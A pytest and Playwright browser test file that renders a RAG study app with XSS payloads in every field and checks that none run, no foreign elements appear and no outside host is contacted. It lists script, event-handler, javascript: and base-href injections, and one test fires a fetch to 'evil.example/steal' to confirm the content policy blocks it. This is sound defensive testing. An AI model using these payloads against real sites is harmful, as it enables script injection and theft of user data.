"""Hostile markup in everything that a page shows, in a real browser: nothing runs, and nobody else is asked.

The payloads are outside the project; a few more stand here, for Gradio's own templates. One page shows many at once.
"""

import json
import re
import shutil
import threading
import time
from collections.abc import Iterator, Sequence
from dataclasses import replace
from pathlib import Path
from urllib.parse import urlsplit

import pytest
import uvicorn
from fastapi import FastAPI
from page_turns import answer_of, article_of, evidence_of, library_of
from playwright.sync_api import Browser, Page, expect, sync_playwright

from page import create_page, mount
from rag.difficult_words import DifficultWord
from rag.glossary import Explanation
from rag.quiz import Form, Kind, QuizQuestion
from rag.study import Study
from rag.types import Answer, AnswerSentence, Event, Evidence, EvidenceFound, Question, Step, Voice
from web import Rules

pytestmark = pytest.mark.browser
QUIET = ["--no-sandbox", "--disable-background-networking", "--disable-component-update", "--disable-sync"]
OWN = [
    "${alert(1)}", "{{alert(1)}}", "{{#with alert}}{{this}}{{/with}}", "`;alert(1);`",
    "</script><script>alert(1)</script>",
    "<img src=x onerror=alert(1)>", "<iframe srcdoc='<script>parent.alert(1)</script>'>", "' onmouseover='alert(1)",
    "\" autofocus onfocus=\"alert(1)", "<svg/onload=alert(1)>", "<base href=//evil.example/>", "javascript:alert(1)",
    "<link rel=stylesheet href=//evil.example/a.css>", "<details open ontoggle=alert(1)>x</details>",
]  # fmt: skip
ADDRESSES = [
    "javascript:alert(1)",
    "data:text/html,<script>alert(1)</script>",
    "//evil.example",
    " JaVaScRiPt:alert(1)",
]
OPTIONS = {Form.CHOOSE: tuple(OWN[:3]), Form.TRUE_FALSE: (), Form.FILL: ()}
WATCH = """
window.ran = []; for (const name of ["alert", "confirm", "prompt"]) window[name] = () => window.ran.push(name);
document.addEventListener("securitypolicyviolation", (event) => window.ran.push("blocked " + event.blockedURI));
"""


class Hostile:
    """Answers with payloads wherever an answer has room for one."""

    def __init__(self, payloads: Sequence[str]):
        self.payloads = payloads

    def articles(self) -> list:
        return [
            article_of(id=f"a{number}", title=text, outlet=text, url=ADDRESSES[number % len(ADDRESSES)])
            for number, text in enumerate(self.payloads)
        ]

    def evidence(self) -> tuple[Evidence, ...]:
        articles = self.articles()
        return tuple(
            replace(evidence_of(number, text), article=articles[number - 1], voice=Voice.SPEECH, speaker=text)
            for number, text in enumerate(self.payloads, start=1)
        )

    def explain(self, question: Question, earlier: Sequence[Answer]) -> Iterator[Event]:
        evidence = self.evidence()
        yield EvidenceFound(evidence, understood=question.text)
        written = [AnswerSentence(text, (number,)) for number, text in enumerate(self.payloads, start=1)]
        quoted = [AnswerSentence(text, (number,), is_quote=True) for number, text in enumerate(self.payloads, start=1)]
        steps = (Step("chose", 0.1, {"evidence": list(self.payloads)}), Step(self.payloads[0], 0.1))
        more = {"suggestions": tuple(self.payloads), "notice": self.payloads[0], "steps": steps}
        answer = answer_of(*written, *quoted, evidence=evidence, understood=question.text, **more)
        yield replace(answer, question=question)

    def learn(self, answer: Answer) -> Study:
        words = {
            text: (DifficultWord(text, 0, len(text), Explanation(text, text, "fr", article=evidence.article)),)
            for text, evidence in zip(self.payloads, answer.citations, strict=True)
        }
        quiz = [
            QuizQuestion(form, Kind.NAME, text, OPTIONS[form], "true" if form is Form.TRUE_FALSE else text, evidence)
            for form in Form
            for text, evidence in zip(self.payloads, answer.citations, strict=True)
        ]
        articles = {evidence.article.id: evidence.article for evidence in answer.citations}
        return Study(words, tuple(quiz), articles, articles)


@pytest.fixture(scope="module")
def payloads(evaluation_data: Path) -> list[str]:
    lines = (evaluation_data / "xss_payloads.jsonl").read_text(encoding="utf-8").splitlines()
    return [*OWN, *(json.loads(line)["text"] for line in lines)]


@pytest.fixture(scope="module")
def address(payloads: list[str]) -> Iterator[str]:
    """A running page whose articles and answers are hostile."""
    hostile = Hostile(payloads)
    app = mount(
        FastAPI(),
        create_page(library_of(hostile.explain, hostile.learn, hostile.articles)),
        Rules(calls_per_minute=10_000),
    )
    server = uvicorn.Server(uvicorn.Config(app, host="127.0.0.1", port=0, log_level="warning"))
    running = threading.Thread(target=server.run, daemon=True)
    running.start()
    while not server.started:
        assert running.is_alive()
        time.sleep(0.1)
    yield f"http://127.0.0.1:{server.servers[0].sockets[0].getsockname()[1]}"
    server.should_exit = True
    running.join(30)


@pytest.fixture(scope="module")
def browser() -> Iterator[Browser]:
    with sync_playwright() as playwright:
        chromium = playwright.chromium.launch(executable_path=shutil.which("chromium"), args=QUIET)
        yield chromium
        chromium.close()


@pytest.fixture(scope="module")
def page(browser: Browser, address: str) -> Iterator[Page]:
    """The page, opened once; `page.hosts` collects whom the browser asks."""
    opened = browser.new_page()
    opened.hosts = set()  # type: ignore[attr-defined]
    opened.on("request", lambda request: opened.hosts.add(urlsplit(request.url).netloc))  # type: ignore[attr-defined]
    opened.add_init_script(WATCH)
    opened.goto(address)
    expect(opened.locator("#question textarea")).to_be_visible(timeout=30_000)
    yield opened
    opened.close()


def ran(page: Page) -> list[str]:
    """What ran, or tried to, and was stopped; every element is touched first."""
    page.evaluate("document.querySelectorAll('details').forEach((each) => (each.open = true))")
    page.evaluate(
        "document.querySelectorAll('#main *').forEach((each) => each.dispatchEvent(new MouseEvent('mouseover')))"
    )
    page.wait_for_timeout(300)
    return list(page.evaluate("window.ran"))


def foreign(page: Page) -> list[str]:
    """Elements and addresses that no page of ours has."""
    found = page.evaluate(
        """[...document.querySelectorAll(`#main script, #main iframe, #main object, #main form, #main base, #main style,
        #main img, #main video, #main math, #main [onerror], #main [onload], #main [onmouseover], #main [ontoggle],
        #main [onclick], #main [srcdoc], #main link, #main meta`)].map((each) => each.outerHTML.slice(0, 120))"""
    )
    links = page.evaluate("[...document.querySelectorAll('#main a')].map((each) => each.getAttribute('href') || '')")
    return [*found, *(link for link in links if not re.match(r"#|https?://", link))]


def test_the_first_screen_and_its_list_of_articles_run_nothing(page: Page, address: str, payloads: list[str]):
    expect(page.locator("#articles")).to_contain_text(payloads[0])

    assert ran(page) == []
    assert foreign(page) == []
    assert page.hosts == {urlsplit(address).netloc}  # type: ignore[attr-defined]


def test_an_answer_full_of_markup_runs_nothing_and_shows_it_as_text(page: Page, address: str, payloads: list[str]):
    page.fill("#question textarea", payloads[5])
    page.keyboard.press("Enter")
    expect(page.locator("#current .answer:not([data-status=running])")).to_be_visible(timeout=30_000)

    assert page.locator("#current .question").inner_text().endswith(payloads[5])
    assert page.locator("#current .sentence").count() >= len(payloads)
    assert ran(page) == []
    assert foreign(page) == []
    assert page.hosts == {urlsplit(address).netloc}  # type: ignore[attr-defined]


def test_every_payload_as_a_question_runs_nothing(page: Page, address: str, payloads: list[str]):
    for payload in payloads:
        page.fill("#question textarea", payload)
        page.keyboard.press("Enter")
        expect(page.locator("#question textarea")).to_have_value("", timeout=15_000)

    expect(page.locator("#current .answer:not([data-status=running])")).to_be_visible(timeout=30_000)
    assert ran(page) == []
    assert foreign(page) == []
    assert page.hosts == {urlsplit(address).netloc}  # type: ignore[attr-defined]


def test_a_script_that_comes_in_all_the_same_is_stopped_by_the_policy(page: Page):
    page.evaluate(
        """() => {
          const script = document.createElement("script"); script.textContent = "window.ran.push('inline')";
          const image = document.createElement("div");
          image.innerHTML = "<img src=x onerror=\\"window.ran.push('handler')\\">";
          document.body.append(script, image);
          fetch("https://evil.example/steal").catch(() => {});
        }"""
    )
    page.wait_for_timeout(500)

    seen = page.evaluate("window.ran")
    assert "inline" not in seen and "handler" not in seen
    assert seen.count("blocked inline") == 2
    assert "blocked https://evil.example/steal" in seen


def test_the_browser_keeps_nothing_of_what_was_asked(page: Page, payloads: list[str]):
    kept = page.evaluate("JSON.stringify({...localStorage}) + JSON.stringify({...sessionStorage}) + document.cookie")

    assert not [payload for payload in payloads if json.dumps(payload)[1:-1] in kept]
    assert page.context.cookies() == []
    assert page.evaluate("indexedDB.databases().then((all) => all.length)") == 0
